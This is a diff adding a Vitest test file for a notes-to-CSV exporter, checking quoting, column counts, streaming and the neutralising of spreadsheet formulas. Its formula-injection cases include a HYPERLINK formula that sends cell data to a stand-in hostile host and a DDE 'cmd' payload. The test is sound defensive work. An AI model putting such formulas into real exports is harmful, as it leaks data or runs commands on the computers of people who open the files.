@@ -1,0 +1,126 @@
+import { describe, expect, test } from 'vitest';
+import { notesAsCsv, notesToCsv } from '../../../lib/export/csv';
+import { HOSTILE, madeUpBundle, madeUpNote } from './made-up';
+
+/** A reader of RFC 4180 of its own: rows of cells. */
+function readCsv(text: string): string[][] {
+  const rows: string[][] = [[]];
+  const cells = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/gy;
+  for (const [, raw = '', end] of text.matchAll(cells)) {
+    const cell = raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw;
+    rows.at(-1)?.push(cell);
+    if (end === '\r\n') rows.push([]);
+  }
+  return rows.slice(0, -1);
+}
+
+function records(text: string): Record<string, string | undefined>[] {
+  const [header = [], ...rows] = readCsv(text);
+  return rows.map((row) => Object.fromEntries(header.map((name, index) => [name, row[index]])));
+}
+
+describe('notesToCsv', () => {
+  test('writes one row a note with its article, byte for byte', () => {
+    const bundle = madeUpBundle({
+      article: { tags: ['Ukraine', 'Nato'] },
+      notes: [
+        madeUpNote({ text: 'Er sagte: "Nein", dann ja.' }),
+        madeUpNote({ subject: { on: 'entity', name: 'Mark Rutte', kind: 'person' }, text: 'zwei\nZeilen' }),
+      ],
+    });
+    const article =
+      'Treffen in Kiew,Ada Feder,Die Zeitung,https://zeitung.example/politik/treffen-in-kiew,2026-03-01,' +
+      '2026-03-02T12:00:00.000Z,Ukraine; Nato,Mark Rutte sprach für die Nato.,Mark Rutte,Nato';
+    const times = '2026-03-02T12:00:00.000Z,2026-03-02T12:00:00.000Z';
+    const expected = [
+      'Created at,Modified at,Type,About,Comment,Title,Author,Site,URL,Published,Saved at,Tags,Summary,People,Organizations',
+      `${times},Page note,,"Er sagte: ""Nein"", dann ja.",${article}`,
+      `${times},Person note,Mark Rutte,"zwei\nZeilen",${article}`,
+      '',
+    ].join('\r\n');
+    expect(Buffer.from(notesToCsv([bundle]))).toEqual(Buffer.from(expected));
+  });
+
+  test('an article without notes has a row of its own', () => {
+    const [row] = records(notesToCsv([madeUpBundle({ notes: [] })]));
+    expect(row).toMatchObject({ Comment: '', Type: '', Title: 'Treffen in Kiew' });
+  });
+
+  test('an article without analysis has empty columns', () => {
+    const [row] = records(notesToCsv([madeUpBundle({ analysis: undefined })]));
+    expect(row).toMatchObject({ People: '', Organizations: '', Summary: '' });
+  });
+
+  test('no articles make a header', () => {
+    expect(readCsv(notesToCsv([]))).toHaveLength(1);
+  });
+
+  test.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    ' =1',
+    '   =1',
+    '\u00A0=1',
+    '\u3000=1',
+    '\u200B=1',
+    '\uFEFF=1',
+    '\u0000=1',
+    '\u202E=1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(A1)',
+    ' ＝1',
+    '﹦1',
+    '﹣1',
+    '−1',
+    '=HYPERLINK("https://boese.example?"&A1,"x")',
+    "=cmd|'/c calc'!A1",
+    '\tTab davor',
+  ])('%j is no formula', (text) => {
+    for (const [row] of [
+      records(notesToCsv([madeUpBundle({ notes: [madeUpNote({ text })] })])),
+      records(notesToCsv([madeUpBundle({ notes: [madeUpNote()], article: { title: text } })])),
+    ]) {
+      const cells = [row?.Comment, row?.Title];
+      expect(cells.filter((cell) => cell?.startsWith("'"))).toHaveLength(1);
+    }
+  });
+
+  test.each([
+    ...HOSTILE.slice(0, -1),
+    'Zahl 5-3=2',
+    'a@b.example',
+    '"',
+    '""',
+    ',',
+    ' vorn und hinten ',
+    'eins;zwei\ttab',
+    '__proto__',
+    '😀'.repeat(500),
+    'שלום',
+  ])('%j is read back as it was', (text) => {
+    const [row] = records(notesToCsv([madeUpBundle({ notes: [madeUpNote({ text })] })]));
+    expect(row?.Comment).toBe(text);
+  });
+
+  test('every row has as many cells as the header, whatever stands in them', () => {
+    const notes = HOSTILE.map((text) => madeUpNote({ text: `${text}"\r\n,${text}` }));
+    const rows = readCsv(notesToCsv([madeUpBundle({ notes, article: { title: '",\r\n"' } })]));
+    expect(rows).toHaveLength(HOSTILE.length + 1);
+    expect(new Set(rows.map(({ length }) => length))).toEqual(new Set([15]));
+  });
+});
+
+test('in pieces it is the same', async () => {
+  const bundles = [madeUpBundle(), madeUpBundle({ article: { title: 'Zwei' } })];
+  const pieces: string[] = [];
+  for await (const piece of notesAsCsv(bundles)) pieces.push(piece);
+  expect(pieces).toHaveLength(3);
+  expect(pieces.join('')).toBe(notesToCsv(bundles));
+});
